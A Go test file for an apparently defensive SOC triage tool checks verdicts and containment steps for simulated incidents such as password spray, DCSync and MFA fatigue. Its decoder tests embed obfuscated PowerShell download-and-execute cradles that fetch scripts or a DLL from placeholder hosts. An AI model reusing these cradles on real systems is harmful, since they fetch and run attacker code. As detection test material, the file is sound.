package offline

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"net/netip"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/google/go-cmp/cmp"

	"github.com/socpilot/socpilot"
)

// incident builds a small incident for the tests: one per scenario family.
type incident struct {
	title, desc, severity string
	labels                []string
	alerts                []socpilot.Alert
	entities              []socpilot.Entity
	comments              []string // oldest first
}

func (in incident) details() socpilot.IncidentDetails {
	t0 := time.Date(2026, 1, 5, 7, 0, 0, 0, time.UTC)
	d := socpilot.IncidentDetails{Incident: socpilot.Incident{Number: 1, Title: in.title, Description: in.desc, Severity: in.severity, Status: "New", Labels: in.labels, CreatedTime: t0}}
	for i, a := range in.alerts {
		a.StartTime = t0.Add(time.Duration(i) * time.Minute)
		if a.Severity == "" {
			a.Severity = "Medium"
		}
		d.Alerts = append(d.Alerts, a)
	}
	d.Entities = in.entities
	for i, c := range in.comments {
		d.Comments = append(d.Comments, socpilot.Comment{Message: c, Author: "Analyst", CreatedTime: t0.Add(time.Duration(i+1) * time.Hour)})
	}
	return d
}

func account(name, domain string) socpilot.Entity {
	p := map[string]any{"accountName": name}
	if domain != "" {
		p["upnSuffix"] = domain
		p["aadUserId"] = "id-" + name
	}
	return socpilot.Entity{ID: "acct-" + name, Kind: socpilot.KindAccount, Properties: p}
}

func host(name string) socpilot.Entity {
	return socpilot.Entity{ID: "host-" + name, Kind: socpilot.KindHost, Properties: map[string]any{"hostName": name}}
}

func ip(addr, org string) socpilot.Entity {
	p := map[string]any{"address": addr}
	if org != "" {
		p["location"] = map[string]any{"organization": org}
	}
	return socpilot.Entity{ID: "ip-" + addr, Kind: socpilot.KindIP, Properties: p}
}

func actions(a socpilot.Analysis) []string {
	var out []string
	for _, c := range a.Checklist {
		if c.Action != nil {
			out = append(out, string(c.Action.Verb)+" "+c.Action.Entity)
		}
	}
	return out
}

func compromised(a socpilot.Analysis) []string {
	var out []string
	for _, c := range a.Compromised {
		out = append(out, c.Entity)
	}
	return out
}

var (
	sprayAlert = socpilot.Alert{DisplayName: "Password spray", Tactics: []string{"CredentialAccess"}, Techniques: []string{"T1110"},
		Description: "Failed sign-ins for 40 accounts from 203.0.113.9 within 30 minutes."}
	sprayIncident = incident{title: "Password spray with one success", severity: "Medium",
		alerts: []socpilot.Alert{sprayAlert, {DisplayName: "Sign-in after spray", Tactics: []string{"InitialAccess"}, Techniques: []string{"T1078"},
			Description: "megan.bowen@contoso.com signed in successfully from 203.0.113.9 after the spray."}},
		entities: []socpilot.Entity{account("megan.bowen", "contoso.com"), account("alex.wilber", "contoso.com"), account("lee.gu", "contoso.com"),
			ip("203.0.113.9", "bulletproof hosting"), ip("198.51.100.10", "Contoso Ltd"), ip("10.1.2.3", "")}}
)

func TestVerdictsFromContext(t *testing.T) {
	tests := []struct {
		name            string
		in              incident
		want            socpilot.Verdict
		wantCompromised []string
		wantActions     []string // must be present
		forbidden       []string // must be absent
		wantReason      string   // a reason containing this decided it
	}{
		{"a success after a spray escalates and names only the account that got in", sprayIncident, socpilot.VerdictEscalate,
			[]string{"megan.bowen@contoso.com"},
			[]string{"revoke-sessions megan.bowen@contoso.com", "reset-credentials megan.bowen@contoso.com", "block-ip 203.0.113.9"},
			[]string{"reset-credentials alex.wilber@contoso.com", "block-ip 198.51.100.10", "block-ip 10.1.2.3"}, "decisive"},
		{"a negated success proves nothing", incident{title: "Password spray", severity: "Medium",
			alerts:   []socpilot.Alert{sprayAlert},
			entities: []socpilot.Entity{account("alex.wilber", "contoso.com"), ip("203.0.113.9", "")},
			comments: []string{"No account succeeded; alex.wilber did not sign in successfully."}}, socpilot.VerdictRemediate,
			nil, nil, []string{"reset-credentials alex.wilber@contoso.com"}, ""},
		{"a pen-test label does not outweigh a DCSync the comments put out of scope", incident{title: "DCSync from workstation", severity: "High", labels: []string{"PenTest"},
			alerts: []socpilot.Alert{{DisplayName: "Suspected DCSync attack (replication of directory services)", Tactics: []string{"CredentialAccess"}, Techniques: []string{"T1003.006"},
				Description: "WS-PT-07 sent a replication request to DC01."},
				{DisplayName: "Data exfiltration over SMB", Tactics: []string{"Exfiltration"}, Techniques: []string{"T1048"}, Description: "WS-PT-07 sent 2.1 GB to 203.0.113.50."}},
			entities: []socpilot.Entity{host("WS-PT-07"), host("DC01"), ip("203.0.113.50", "")},
			comments: []string{"Pen test engagement this week, approved by the CISO.", "The testers confirm DCSync against the production domain was out of scope and they did not run it."}},
			socpilot.VerdictEscalate, []string{"WS-PT-07"}, []string{"isolate-host WS-PT-07"}, []string{"isolate-host DC01"}, "outside the approved test"},
		{"an approved test within scope is dismissed", incident{title: "Mimikatz on LAB-01", severity: "High",
			alerts:   []socpilot.Alert{{DisplayName: "Credential theft tool", Tactics: []string{"CredentialAccess"}, Techniques: []string{"T1003"}, Description: "Mimikatz ran on LAB-01."}},
			entities: []socpilot.Entity{host("LAB-01")},
			comments: []string{"Red team exercise approved under CHG0051234; LAB-01 is within the agreed scope."}},
			socpilot.VerdictDismiss, nil, nil, []string{"isolate-host LAB-01"}, "benign"},
		{"encoded PowerShell from the Intune management agent is dismissed", incident{title: "Suspicious encoded PowerShell", severity: "Medium",
			alerts: []socpilot.Alert{{DisplayName: "Suspicious PowerShell command line", ProductName: "Microsoft Defender for Endpoint", Tactics: []string{"Execution", "DefenseEvasion"}, Techniques: []string{"T1059.001", "T1027"},
				Description: "An encoded PowerShell command was launched by AgentExecutor.exe on LT-042."}},
			entities: []socpilot.Entity{host("LT-042"),
				{ID: "p1", Kind: socpilot.KindProcess, Properties: map[string]any{"commandLine": `"C:\Program Files (x86)\Microsoft Intune Management Extension\AgentExecutor.exe" -powershell`}},
				{ID: "p2", Kind: socpilot.KindProcess, Properties: map[string]any{"commandLine": "powershell.exe -enc " + encUTF16("Get-WindowsUpdateLog"), "parentProcessEntityId": "p1"}}}},
			socpilot.VerdictDismiss, nil, nil, []string{"isolate-host LT-042"}, "management agent"},
		{"impossible travel between the company's own egress addresses is dismissed", incident{title: "Impossible travel activity", severity: "Medium",
			alerts: []socpilot.Alert{{DisplayName: "Impossible travel activity", Tactics: []string{"InitialAccess"}, Techniques: []string{"T1078"},
				Description: "lee.gu@contoso.com signed in from 198.51.100.10 (US) and 203.0.113.77 (NL) within 20 minutes."}},
			entities: []socpilot.Entity{account("lee.gu", "contoso.com"), ip("198.51.100.10", "Contoso Ltd"), ip("203.0.113.77", "contoso ltd")}},
			socpilot.VerdictDismiss, nil, nil, []string{"block-ip 198.51.100.10", "block-ip 203.0.113.77", "reset-credentials lee.gu@contoso.com"}, "own egress"},
		{"a user who says they were asleep when the push was approved escalates", incident{title: "MFA fatigue", severity: "Medium",
			alerts: []socpilot.Alert{{DisplayName: "Multiple MFA push requests", Tactics: []string{"CredentialAccess"}, Techniques: []string{"T1621"},
				Description: "31 MFA push notifications were sent to lee.gu@contoso.com; the last one was approved at 03:12 UTC."}},
			entities: []socpilot.Entity{account("lee.gu", "contoso.com"), ip("203.0.113.8", "")},
			comments: []string{"Called Lee: he was asleep and did not approve anything."}},
			socpilot.VerdictEscalate, []string{"lee.gu@contoso.com"}, []string{"revoke-sessions lee.gu@contoso.com"}, nil, "decisive"},
		{"the victim's public address is never blocked", incident{title: "RDP brute force succeeded on VM-01", severity: "High",
			desc: "VM-01 exposes RDP on its public address 192.0.2.45. 203.0.113.66 made 300 failed attempts, then logged on as localadmin.",
			alerts: []socpilot.Alert{{DisplayName: "Successful RDP brute force", ProductName: "Microsoft Defender for Cloud", Tactics: []string{"CredentialAccess", "InitialAccess"}, Techniques: []string{"T1110", "T1078"},
				Description: "1 successful login as localadmin from 203.0.113.66."},
				{DisplayName: "Suspicious discovery commands", ProductName: "Microsoft Defender for Endpoint", Tactics: []string{"Discovery"}, Techniques: []string{"T1087"}, Description: "whoami /all ran on VM-01 after the logon."}},
			entities: []socpilot.Entity{host("VM-01"), ip("192.0.2.45", ""), ip("203.0.113.66", ""),
				{ID: "acct-localadmin", Kind: socpilot.KindAccount, Properties: map[string]any{"accountName": "localadmin", "ntDomain": "VM-01"}}}},
			socpilot.VerdictEscalate, []string{"localadmin", "VM-01"},
			[]string{"isolate-host VM-01", "disable-account localadmin", "block-ip 203.0.113.66"}, []string{"block-ip 192.0.2.45"}, "decisive"},
		{"a persistence that already ran and called out is a foothold", incident{title: "Scheduled task created", severity: "Medium",
			alerts: []socpilot.Alert{{DisplayName: "Suspicious scheduled task", ProductName: "Microsoft Defender for Endpoint", Tactics: []string{"Persistence", "Execution"}, Techniques: []string{"T1053.005"},
				Description: "A task was created on WS-7 to run hidden PowerShell as SYSTEM. The task ran at 08:31 UTC and connected to upd-cdn.example.net."}},
			entities: []socpilot.Entity{host("WS-7")}},
			socpilot.VerdictEscalate, []string{"WS-7"}, []string{"isolate-host WS-7"}, nil, "already run"},
		{"the account sending data out has its sessions revoked", incident{title: "Upload to personal cloud storage", severity: "Medium",
			alerts: []socpilot.Alert{{DisplayName: "Large upload to personal cloud storage", Tactics: []string{"Exfiltration"}, Techniques: []string{"T1567"},
				Description: "lee.gu@contoso.com uploaded 3.1 GB to a personal Google Drive through 198.51.100.10."}},
			entities: []socpilot.Entity{account("lee.gu", "contoso.com"), ip("198.51.100.10", "Contoso Ltd")}},
			socpilot.VerdictEscalate, nil, []string{"revoke-sessions lee.gu@contoso.com"}, []string{"block-ip 198.51.100.10"}, "data was sent out"},
		{"an unexplained DCSync resets krbtgt and a privileged account in the attacker's hands is disabled", incident{title: "DCSync from SRV-9", severity: "High",
			alerts: []socpilot.Alert{{DisplayName: "Suspected DCSync attack (replication of directory services)", ProductName: "Azure Advanced Threat Protection", Tactics: []string{"CredentialAccess"}, Techniques: []string{"T1003.006"},
				Description: "Replication requests were sent from SRV-9 to DC01 as CONTOSO\\adm-ops."},
				{DisplayName: "Mimikatz credential theft tool", ProductName: "Microsoft Defender for Endpoint", Tactics: []string{"CredentialAccess"}, Techniques: []string{"T1003.001"},
					Description: "Mimikatz ran on SRV-9 as CONTOSO\\adm-ops."}},
			entities: []socpilot.Entity{host("SRV-9"), host("DC01"), account("adm-ops", "contoso.com"), account("krbtgt", "")}},
			socpilot.VerdictEscalate, []string{"SRV-9", "adm-ops@contoso.com"},
			[]string{"isolate-host SRV-9", "reset-credentials krbtgt", "disable-account adm-ops@contoso.com"}, []string{"isolate-host DC01"}, "DCSync"},
		{"a right password stopped only by MFA is reset, not counted as compromised", incident{title: "Password spray", severity: "Medium",
			alerts:   []socpilot.Alert{sprayAlert},
			entities: []socpilot.Entity{account("alex.wilber", "contoso.com"), account("lee.gu", "contoso.com"), ip("203.0.113.9", "")},
			comments: []string{"alex.wilber got 50074 from 203.0.113.9: right password, stopped at MFA. lee.gu only 50126."}},
			socpilot.VerdictRemediate, nil, []string{"reset-credentials alex.wilber@contoso.com"}, []string{"reset-credentials lee.gu@contoso.com"}, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			a := New(Options{}).Analyze(tt.in.details())
			if a.Triage.Verdict != tt.want {
				t.Errorf("verdict %s (score %d), want %s; reasons:\n%s", a.Triage.Verdict, a.Triage.Score, tt.want, reasonsText(a))
			}
			for _, c := range tt.wantCompromised {
				if !slices.Contains(compromised(a), c) {
					t.Errorf("compromised %v lacks %s", compromised(a), c)
				}
			}
			if tt.wantCompromised == nil && tt.want != socpilot.VerdictEscalate && len(a.Compromised) > 0 && tt.want == socpilot.VerdictDismiss {
				t.Errorf("dismissed incident names compromised entities %v", compromised(a))
			}
			got := actions(a)
			for _, w := range tt.wantActions {
				if !slices.Contains(got, w) {
					t.Errorf("actions %v lack %q", got, w)
				}
			}
			for _, f := range tt.forbidden {
				if slices.Contains(got, f) {
					t.Errorf("actions %v contain the harmful %q", got, f)
				}
			}
			if tt.wantReason != "" && !strings.Contains(reasonsText(a), tt.wantReason) {
				t.Errorf("no reason mentions %q:\n%s", tt.wantReason, reasonsText(a))
			}
		})
	}
}

func reasonsText(a socpilot.Analysis) string {
	var b strings.Builder
	for _, r := range a.Triage.Reasons {
		b.WriteString(r.Text + "\n")
	}
	return b.String()
}

func TestContainmentComesFirstWhenAnAttackerIsActive(t *testing.T) {
	a := New(Options{}).Analyze(sprayIncident.details())
	firstInvestigate, lastContain := -1, -1
	for i, c := range a.Checklist {
		if c.Action != nil && c.Phase == phContain {
			lastContain = i
		}
		if c.Phase == phInvestigate && c.Action == nil && firstInvestigate < 0 {
			firstInvestigate = i
		}
	}
	if lastContain < 0 || firstInvestigate < lastContain {
		t.Errorf("containment (last at %d) not before investigation (first at %d)", lastContain, firstInvestigate)
	}
}

func TestOwnEstateIsNeverBlockedNorLookedUp(t *testing.T) {
	in := sprayIncident
	in.entities = append(slices.Clone(in.entities), ip("192.0.2.200", ""))
	estate := socpilot.Estate{Networks: []netip.Prefix{netip.MustParsePrefix("192.0.2.0/24")}}
	a := New(Options{Estate: estate}).Analyze(in.details())
	for _, c := range a.Checklist {
		for _, e := range c.Entities {
			if (e == "192.0.2.200" || e == "10.1.2.3" || e == "198.51.100.10") && (c.Action != nil || strings.Contains(c.Title, "reputation")) {
				t.Errorf("step %q targets the organisation's own %s", c.Title, e)
			}
		}
	}
}

func encUTF16(s string) string {
	u := utf16.Encode([]rune(s))
	b := make([]byte, 2*len(u))
	for i, v := range u {
		b[2*i], b[2*i+1] = byte(v), byte(v>>8)
	}
	return base64.StdEncoding.EncodeToString(b)
}

func TestDecodeCommandLine(t *testing.T) {
	var gz bytes.Buffer
	w := gzip.NewWriter(&gz)
	w.Write([]byte("$c=New-Object Net.WebClient;$c.DownloadFile('https://evil.example.net/p/loader.dll','C:\\Users\\Public\\l.dll')"))
	w.Close()
	inner := "IEX(New-Object IO.StreamReader(New-Object IO.Compression.GzipStream([IO.MemoryStream][Convert]::FromBase64String('" +
		base64.StdEncoding.EncodeToString(gz.Bytes()) + "'),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()"
	tests := []struct {
		name     string
		cmd      string
		wantURLs []string
		wantIPs  []string
		layers   int
	}{
		{"-enc UTF-16LE", "powershell -nop -w hidden -enc " + encUTF16("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.77/a/s.ps1')"),
			[]string{"http://198.51.100.77/a/s.ps1"}, []string{"198.51.100.77"}, 1},
		{"-EncodedCommand wrapping FromBase64String and gzip", "powershell.exe -EncodedCommand " + encUTF16(inner),
			[]string{"https://evil.example.net/p/loader.dll"}, nil, 2},
		{"abbreviated flag -e", "pwsh -e " + encUTF16("Start-Process calc.exe"), nil, nil, 1},
		{"nothing encoded", "cmd.exe /c whoami", nil, nil, 0},
		{"garbage base64 is not decoded", "powershell -enc !!!notbase64", nil, nil, 0},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			d := DecodeCommandLine(tt.cmd)
			if len(d.Layers) != tt.layers {
				t.Errorf("%d layers %q, want %d", len(d.Layers), d.Layers, tt.layers)
			}
			if diff := cmp.Diff(tt.wantURLs, d.URLs); diff != "" {
				t.Errorf("URLs (-want +got):\n%s", diff)
			}
			if diff := cmp.Diff(tt.wantIPs, d.IPs); diff != "" {
				t.Errorf("IPs (-want +got):\n%s", diff)
			}
		})
	}
}

func FuzzDecodeCommandLine(f *testing.F) {
	f.Add("powershell -enc " + encUTF16("IEX 'x'"))
	f.Add("[Convert]::FromBase64String('H4sIAAAAAAAA')")
	f.Fuzz(func(t *testing.T, s string) { DecodeCommandLine(s) })
}

func TestAnswerIntents(t *testing.T) {
	d := sprayIncident.details()
	an := New(Options{})
	a := an.Analyze(d)
	tests := []struct{ q, want string }{
		{"did any account sign in successfully?", "megan.bowen@contoso.com"},
		{"which IPs are involved?", "198.51.100.10` — the organisation's own"},
		{"what should I do first?", "revoke-sessions megan.bowen@contoso.com"},
		{"is this a true positive?", "escalate"},
		{"which KQL should I run?", "```kql"},
		{"what happened first?", "Password spray"},
	}
	for _, tt := range tests {
		got, ok := an.Answer(tt.q, d, a)
		if !ok || !strings.Contains(got, tt.want) {
			t.Errorf("%q: %v %q, want it to contain %q", tt.q, ok, got, tt.want)
		}
	}
	if _, ok := an.Answer("what is the weather in Oslo?", d, a); ok {
		t.Error("an off-topic question was answered offline")
	}
}

// TestSystemBinariesAreNeverBlocked: a hash of an abused system binary is
// not a block-file target; the dropped payload's hash is.
func TestSystemBinariesAreNeverBlocked(t *testing.T) {
	in := incident{title: "Encoded PowerShell and a dropped DLL", severity: "High",
		alerts: []socpilot.Alert{{DisplayName: "Suspicious PowerShell", ProductName: "Microsoft Defender for Endpoint", Tactics: []string{"Execution"}, Techniques: []string{"T1059.001"},
			Description: "powershell.exe on WS-9 downloaded and ran evil.dll."}},
		entities: []socpilot.Entity{host("WS-9"),
			{ID: "h-ps", Kind: socpilot.KindFileHash, Properties: map[string]any{"algorithm": "SHA256", "hashValue": "aaaa"}},
			{ID: "h-dll", Kind: socpilot.KindFileHash, Properties: map[string]any{"algorithm": "SHA256", "hashValue": "bbbb"}},
			{ID: "f-ps", Kind: socpilot.KindFile, Properties: map[string]any{"fileName": "powershell.exe", "directory": `C:\Windows\System32\WindowsPowerShell\v1.0`, "fileHashEntityIds": []any{"h-ps"}}},
			{ID: "f-dll", Kind: socpilot.KindFile, Properties: map[string]any{"fileName": "evil.dll", "directory": `C:\Users\Public`, "fileHashEntityIds": []any{"h-dll"}}}}}
	got := actions(New(Options{}).Analyze(in.details()))
	if slices.Contains(got, "block-file aaaa") || !slices.Contains(got, "block-file bbbb") {
		t.Errorf("actions %v: want the DLL's hash blocked and powershell.exe's not", got)
	}
}
